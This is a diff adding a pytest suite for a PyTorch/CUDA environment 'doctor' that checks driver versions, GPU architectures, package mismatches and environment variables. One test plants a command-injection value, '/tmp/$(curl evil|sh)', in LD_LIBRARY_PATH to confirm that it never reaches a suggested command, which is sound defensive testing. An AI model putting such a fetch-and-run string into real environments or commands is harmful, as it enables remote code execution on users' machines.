@@ -1,0 +1,362 @@
+"""The doctor on real machines: replayed hosts (tests/fixtures/hosts/) and real collect_env
+reports (tests/fixtures/collect_env/), varied one fact at a time where a case needs it.
+
+Wheel knowledge for the arch/driver cases comes from ``VerifiedWheels`` below: the readings in
+/work/shared/reference/VERIFIED.md (§3 architectures measured from the wheels' fat binaries) and
+NVIDIA's driver table (wheel_matrix.json ``nvidia_driver_table``), not from the code under test.
+"""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from pathlib import Path
+from typing import Optional
+
+import pytest
+
+from setup_env.collect_env import parse
+from setup_env.doctor import Finding, Knowledge, examine, gpu_runs_on
+from setup_env.facts import CudaToolkit, Facts, Gpu, InstalledPackage, Note, NvidiaInfo
+from setup_env.plan import Plan
+from setup_env.probe.detect import detect
+from setup_env.probe.host import ReplayHost
+
+HERE = Path(__file__).parent
+REPORTS = HERE / "fixtures" / "collect_env"
+HOSTS = HERE / "fixtures" / "hosts"
+
+
+class VerifiedWheels:
+    """The matrix interface the doctor reads, holding only VERIFIED.md readings."""
+
+    ARCHES = {
+        ("2.14.1", "cu130", "linux_x86_64"): (
+            "sm_75",
+            "sm_80",
+            "sm_86",
+            "sm_90",
+            "sm_100",
+            "sm_120",
+        ),
+        ("2.14.1", "cu130", "linux_aarch64"): ("sm_80", "sm_90", "sm_100", "sm_110", "sm_120"),
+        ("2.9.1", "cu128", "linux_x86_64"): (
+            "sm_70",
+            "sm_75",
+            "sm_80",
+            "sm_86",
+            "sm_90",
+            "sm_100",
+            "sm_120",
+        ),
+        # wheel_matrix.json cuda_variants.cu126 x86_64 arch list (no Blackwell).
+        ("2.9.1", "cu126", "linux_x86_64"): ("5.0", "6.0", "7.0", "7.5", "8.0", "8.6", "9.0"),
+    }
+    # NVIDIA's table: (minor-version-compatibility floor, toolkit GA minimum) on Linux.
+    DRIVERS = {"13.0": ("580", "580.65.06"), "12.9": ("525.60.13", "575.51.03")}
+    COMPANIONS = {"2.13.0": {"torchvision": "0.28.0"}}
+
+    def wheel_arches(self, torch: str, variant: str, platform: str) -> Optional[tuple[str, ...]]:
+        return self.ARCHES.get((torch, variant, platform))
+
+    def driver_minimum(self, cuda: str, os_family: str) -> Optional[tuple[str, str]]:
+        return self.DRIVERS.get(cuda) if os_family == "linux" else None
+
+    def companions(self, torch: str) -> Optional[dict[str, str]]:
+        return self.COMPANIONS.get(torch)
+
+
+KNOW = Knowledge(VerifiedWheels())
+
+
+def report(name: str) -> Facts:
+    return parse((REPORTS / name).read_text(encoding="utf-8")).facts
+
+
+def host(name: str) -> Facts:
+    return detect(ReplayHost(HOSTS / name), cloud_metadata=False)
+
+
+def codes(findings: tuple[Finding, ...]) -> list[str]:
+    return [f.code for f in findings]
+
+
+def only(findings: tuple[Finding, ...], code: str) -> Finding:
+    hits = [f for f in findings if f.code == code]
+    assert len(hits) == 1, codes(findings)
+    return hits[0]
+
+
+def with_torch(facts: Facts, version: str, variant: str, cuda: Optional[str] = None) -> Facts:
+    pkgs = [p for p in facts.packages if p.name != "torch"]
+    torch = InstalledPackage("torch", version, variant=variant, cuda=cuda, installer="pip")
+    return replace(facts, packages=(torch, *pkgs))
+
+
+def with_gpu(facts: Facts, name: str, cc: Optional[str], driver: str = "580.95.05") -> Facts:
+    gpu = Gpu(index=0, name=name, compute_capability=cc)
+    return replace(facts, nvidia=NvidiaInfo(driver_version=driver, gpus=(gpu,)))
+
+
+PLAN_CU130 = Plan(
+    status="ok",
+    torch_version="2.13.0",
+    variant="cu130",
+    index_url="https://download.pytorch.org/whl/cu130",
+    command="pip install torch==2.13.0 --index-url https://download.pytorch.org/whl/cu130",
+)
+
+
+# --- this machine and other replayed hosts ---------------------------------------------------
+
+
+def test_this_machine_toolkit_without_driver_is_the_only_note() -> None:
+    findings = examine(host("debian12-nogpu-cuda13toolkit"), knowledge=KNOW)
+    assert codes(findings) == ["toolkit-without-driver"]
+    f = findings[0]
+    assert f.severity == "info"
+    assert "13.0" in f.title
+    assert "does not decide the wheel" in (f.fix or "")
+
+
+def test_gpu_instance_without_driver() -> None:
+    findings = examine(host("linux-aws-g5-nitro-nodriver"), knowledge=KNOW)
+    f = only(findings, "gpu-without-driver")
+    assert f.severity == "error"
+    assert "NVIDIA A10G" in f.title
+    assert codes(findings)[0] == "gpu-without-driver"  # errors first
+    assert "torch-not-installed" in codes(findings)
+
+
+# --- the build against the hardware ----------------------------------------------------------
+
+
+def test_cpu_build_on_gpu_machine_from_a_real_report() -> None:
+    findings = examine(report("windows10-cpu-build-rtx-truncated.txt"), knowledge=KNOW)
+    f = only(findings, "cpu-build-on-gpu")
+    assert f.severity == "error"
+    assert "NVIDIA GeForce RTX" in " ".join(f.evidence)
+    assert f.command is None  # no plan given: no command to invent
+
+
+def test_cpu_build_fix_reinstalls_with_the_plans_command() -> None:
+    facts = with_gpu(host("debian12-nogpu-cuda13toolkit"), "NVIDIA H100 80GB HBM3", "9.0")
+    f = only(examine(facts, PLAN_CU130, knowledge=KNOW), "cpu-build-on-gpu")
+    # pip counts 2.13.0+cpu as satisfying torch==2.13.0, so the CPU build is removed first.
+    assert f.command == (
+        "pip uninstall -y torch torchvision torchaudio && "
+        "pip install torch==2.13.0 --index-url https://download.pytorch.org/whl/cu130"
+    )
+
+
+def test_cpu_build_without_gpu_is_fine() -> None:
+    assert "cpu-build-on-gpu" not in codes(examine(report("debian12-cpu-torch2.13.txt")))
+
+
+def test_cuda_newer_than_driver_from_a_real_report() -> None:
+    # torch 2.9.0 built with CUDA 13.0 on driver 570.172.08: CUDA 13 needs R580.
+    findings = examine(report("linux-h100-cu130-driver570.txt"), knowledge=KNOW)
+    f = only(findings, "cuda-newer-than-driver")
+    assert f.severity == "error"
+    assert f.details["min_driver"] == "580"
+    assert "upgrade the NVIDIA driver to >= 580" in (f.fix or "")
+
+
+def test_cuda_newer_than_driver_from_the_drivers_own_cuda_version() -> None:
+    facts = report("linux-h100-cu130-driver570.txt")
+    assert facts.nvidia is not None
+    nv = replace(facts.nvidia, driver_version=None, cuda_driver_version="12.8")
+    f = only(
+        examine(replace(facts, nvidia=nv), knowledge=Knowledge(object())), "cuda-newer-than-driver"
+    )
+    assert "12.8" in " ".join(f.evidence)
+
+
+def test_minor_version_compatibility_is_a_note_not_an_error() -> None:
+    facts = with_torch(report("linux-h100-cu130-driver570.txt"), "2.13.0+cu129", "cu129", "12.9")
+    findings = examine(facts, knowledge=KNOW)
+    assert "cuda-newer-than-driver" not in codes(findings)
+    assert only(findings, "cuda-minor-version-compat").severity == "info"
+
+
+def test_new_driver_has_no_driver_finding() -> None:
+    facts = report("linux-h100-cu130-driver570.txt")
+    assert facts.nvidia is not None
+    facts = replace(facts, nvidia=replace(facts.nvidia, driver_version="580.95.05"))
+    found = codes(examine(facts, knowledge=KNOW))
+    assert "cuda-newer-than-driver" not in found
+    assert "cuda-minor-version-compat" not in found
+
+
+# --- architectures (VERIFIED.md §3 rule) -----------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("cc", "arches", "how"),
+    [
+        ("8.9", ("sm_75", "sm_80", "sm_86", "sm_90"), "sass"),  # RTX 4090 runs the sm_86 SASS
+        ("12.0", ("5.0", "6.0", "7.0", "7.5", "8.0", "8.6", "9.0"), None),  # RTX 5090 on cu126
+        ("12.0", ("sm_75", "sm_80", "sm_86", "sm_90", "sm_100", "sm_120"), "sass"),
+        ("7.0", ("sm_75", "sm_80", "sm_86", "sm_90", "sm_100", "sm_120"), None),  # V100, cu130
+        ("6.0", ("sm_70", "sm_75", "sm_80"), None),  # P100: SASS runs only within its major
+        ("9.0", ("sm_80", "sm_90a"), "sass"),  # arch-specific target, exact arch
+        ("10.0", ("sm_80", "sm_90a"), None),  # ... and only that arch
+        ("12.0", ("8.0", "9.0+PTX"), "ptx"),  # PTX for an older arch is JIT-compiled
+        ("8.0", ("9.0+PTX",), None),  # PTX never runs on an older GPU
+    ],
+)
+def test_gpu_runs_on(cc: str, arches: tuple[str, ...], how: Optional[str]) -> None:
+    assert gpu_runs_on(cc, arches) == how
+
+
+def test_blackwell_on_a_cu126_build_has_no_kernels() -> None:
+    facts = with_gpu(report("linux-h100-cu130-driver570.txt"), "NVIDIA GeForce RTX 5090", None)
+    facts = with_torch(facts, "2.9.1+cu126", "cu126", "12.6")
+    f = only(examine(facts, PLAN_CU130, knowledge=KNOW), "gpu-arch-not-in-wheel")
+    assert f.severity == "error"
+    assert "sm_120" in f.title  # the cc came from the GPU catalogue
+    assert f.command is not None and f.command.endswith(PLAN_CU130.command)
+
+
+def test_supported_gpu_has_no_arch_finding() -> None:
+    facts = with_gpu(report("linux-h100-cu130-driver570.txt"), "NVIDIA GeForce RTX 4090", "8.9")
+    facts = with_torch(facts, "2.14.1+cu130", "cu130", "13.0")
+    assert not [c for c in codes(examine(facts, knowledge=KNOW)) if c.startswith("gpu-arch")]
+
+
+def test_aarch64_cu130_wheel_has_no_t4g_kernels() -> None:
+    # AWS g5g: Graviton2 + T4G (sm_75); the aarch64 cu130 wheel starts at sm_80 (VERIFIED §3).
+    facts = with_gpu(report("linux-h100-cu130-driver570.txt"), "NVIDIA T4G", "7.5")
+    facts = with_torch(facts, "2.14.1+cu130", "cu130", "13.0")
+    facts = replace(facts, cpu=replace(facts.cpu, architecture="aarch64"))
+    assert "gpu-arch-not-in-wheel" in codes(examine(facts, knowledge=KNOW))
+
+
+# --- packages --------------------------------------------------------------------------------
+
+
+def test_companion_built_for_another_cuda() -> None:
+    facts = report("windows11-gtx1050ti-cu117.txt")
+    vision = InstalledPackage("torchvision", "0.15.2+cpu", variant="cpu", installer="pip")
+    pkgs = tuple(p for p in facts.packages if p.name != "torchvision") + (vision,)
+    f = only(examine(replace(facts, packages=pkgs), knowledge=KNOW), "companion-build-mismatch")
+    assert f.severity == "error"
+    assert "torchvision 0.15.2+cpu" in f.title and "cu117" in f.title
+
+
+def test_companion_of_another_release() -> None:
+    facts = host("debian12-nogpu-cuda13toolkit")
+    vision = InstalledPackage("torchvision", "0.26.0+cpu", variant="cpu", installer="pip")
+    facts = replace(facts, packages=(*facts.packages, vision))
+    f = only(examine(facts, knowledge=KNOW), "companion-version-mismatch")
+    assert "0.28.0" in f.title
+
+
+def test_shadowed_install() -> None:
+    facts = host("debian12-nogpu-cuda13toolkit")
+    user = InstalledPackage(
+        "torch",
+        "2.5.1",
+        location="/root/.local/lib/python3.11/site-packages",
+        variant="cu124",
+        installer="pip",
+        shadowed=True,
+    )
+    f = only(
+        examine(replace(facts, packages=(*facts.packages, user)), knowledge=KNOW),
+        "several-installs",
+    )
+    assert f.severity == "warning"
+    assert any("/root/.local" in e for e in f.evidence)
+
+
+def test_nvcc_major_differs_from_torch_cuda() -> None:
+    facts = report("linux-h100-cu130-driver570.txt")  # nvcc 13.0
+    facts = with_torch(facts, "2.4.0+cu121", "cu121", "12.1")
+    f = only(examine(facts, knowledge=KNOW), "nvcc-major-mismatch")
+    assert f.command is None
+    other = CudaToolkit(version="12.1", full_version="12.1.105", path="/usr/local/cuda-12.1")
+    facts = replace(facts, toolkits=(*facts.toolkits, other))
+    f = only(examine(facts, knowledge=KNOW), "nvcc-major-mismatch")
+    assert f.command == "export CUDA_HOME=/usr/local/cuda-12.1"
+
+
+# --- environment -----------------------------------------------------------------------------
+
+
+def _mig_facts(env: dict[str, str]) -> Facts:
+    return replace(report("linux-4x-h100-mig-details.txt"), environment=env)
+
+
+@pytest.mark.parametrize(
+    ("value", "hidden"),
+    [
+        ("", True),
+        ("-1", True),
+        ("4", True),
+        ("NoDevFiles", True),
+        ("0,1", False),
+        ("1,-1", False),
+        ("GPU-8f2a9c1e-0000-1111-2222-333344445555", False),
+        ("3", False),
+    ],
+)
+def test_cuda_visible_devices(value: str, hidden: bool) -> None:
+    found = codes(examine(_mig_facts({"CUDA_VISIBLE_DEVICES": value}), knowledge=KNOW))
+    assert ("cuda-visible-devices-hides-all" in found) is hidden
+
+
+def test_ld_library_path_with_system_cuda() -> None:
+    env = {"LD_LIBRARY_PATH": "/usr/local/cuda-12.1/lib64:/opt/intel/lib:/usr/lib/x86_64-linux-gnu"}
+    f = only(examine(_mig_facts(env), knowledge=KNOW), "ld-library-path-cuda")
+    assert f.command == "export LD_LIBRARY_PATH=/opt/intel/lib:/usr/lib/x86_64-linux-gnu"
+    f = only(
+        examine(_mig_facts({"LD_LIBRARY_PATH": "/usr/local/cuda/lib64"}), knowledge=KNOW),
+        "ld-library-path-cuda",
+    )
+    assert f.command == "unset LD_LIBRARY_PATH"
+
+
+def test_ld_library_path_value_never_reaches_a_command_unvalidated() -> None:
+    env = {"LD_LIBRARY_PATH": "/usr/local/cuda/lib64:/tmp/$(curl evil|sh)"}
+    f = only(examine(_mig_facts(env), knowledge=KNOW), "ld-library-path-cuda")
+    assert f.command is None
+
+
+# --- platform and driver state ---------------------------------------------------------------
+
+
+def test_mig_from_a_real_report() -> None:
+    f = only(examine(report("linux-4x-h100-mig-details.txt"), knowledge=KNOW), "mig-enabled")
+    assert f.evidence == ("GPU 2 NVIDIA H100: MIG mode on",)
+
+
+def test_macos_too_old_for_mps() -> None:
+    assert "macos-too-old-for-mps" in codes(examine(report("macos13-m2max-torch2.10dev.txt")))
+    # An Intel Mac on 14.5 has no MPS question.
+    assert codes(examine(report("macos14-x86_64-email-reply.txt"))) == []
+
+
+def test_rosetta_python() -> None:
+    facts = report("macos13-m2max-torch2.10dev.txt")
+    facts = replace(facts, python=replace(facts.python, machine="x86_64", rosetta=True))
+    f = only(examine(facts, knowledge=KNOW), "rosetta-python")
+    assert f.severity == "error"
+    assert "Apple M2 Max" in " ".join(f.evidence)
+
+
+def test_driver_library_mismatch() -> None:
+    facts = report("linux-h100-cu130-driver570.txt")
+    assert facts.nvidia is not None
+    nv = replace(facts.nvidia, error="Failed to initialize NVML: Driver/library version mismatch")
+    f = only(examine(replace(facts, nvidia=nv), knowledge=KNOW), "driver-library-mismatch")
+    assert f.severity == "error" and f.command == "sudo reboot"
+
+
+def test_probe_notes_become_findings_and_errors_come_first() -> None:
+    facts = report("linux-4x-h100-mig-details.txt")
+    note = Note("nvidia-smi-failed", "nvidia-smi failed: NVIDIA-SMI has failed", "nvidia-smi")
+    facts = replace(facts, notes=(*facts.notes, note), environment={"CUDA_VISIBLE_DEVICES": ""})
+    findings = examine(facts, knowledge=KNOW)
+    assert "nvidia-smi-failed" in codes(findings)
+    order = {"error": 0, "warning": 1, "info": 2}
+    assert [order[f.severity] for f in findings] == sorted(order[f.severity] for f in findings)
